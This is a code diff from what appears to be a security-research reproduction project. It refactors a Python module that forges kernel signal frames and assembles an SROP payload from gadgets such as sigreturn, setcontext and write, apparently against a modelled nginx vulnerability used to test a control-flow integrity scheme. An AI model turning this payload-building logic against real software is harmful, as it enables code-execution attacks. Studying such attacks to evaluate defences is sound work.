@@ -15,9 +15,8 @@ edge is outside the ITC-CFG.
 from __future__ import annotations
 
 import struct
-from typing import Optional
 
-from repro.attacks.gadgets import GadgetMap, find_gadgets
+from repro.attacks.gadgets import find_gadgets
 from repro.attacks.recon import ReconReport
 from repro.attacks.rop import (
     ATTACK_DATA,
@@ -31,14 +30,14 @@ from repro.osmodel.syscalls import O_CREAT, O_WRONLY, Sys
 from repro.workloads.servers import NGINX_VULN_RET_OFFSET
 
 
-def forge_frame(regs: dict, ip: int, flags: int = 0) -> bytes:
+def forge_frame(regs: dict, ip: int) -> bytes:
     """Forge a kernel signal frame (the kernel does not authenticate
-    it — the SROP weakness)."""
+    it — the SROP weakness), its flags word zero."""
     values = [0] * NUM_REGS
     for index, value in regs.items():
         values[index] = value & 0xFFFFFFFFFFFFFFFF
     frame = struct.pack(
-        f"<{2 + NUM_REGS + 1}Q", _FRAME_MAGIC, *values, ip, flags
+        f"<{2 + NUM_REGS + 1}Q", _FRAME_MAGIC, *values, ip, 0
     )
     assert len(frame) == FRAME_SIZE
     return frame
@@ -47,9 +46,8 @@ def forge_frame(regs: dict, ip: int, flags: int = 0) -> bytes:
 def build_srop_payload(
     recon: ReconReport,
     conn_fd: int = 4,
-    gadgets: Optional[GadgetMap] = None,
 ) -> bytes:
-    gadgets = gadgets if gadgets is not None else find_gadgets(recon.image)
+    gadgets = find_gadgets(recon.image)
     sigreturn_fn = gadgets.functions["sigreturn"]
     setcontext = gadgets.functions["setcontext"]
     write_fn = gadgets.functions["write"]
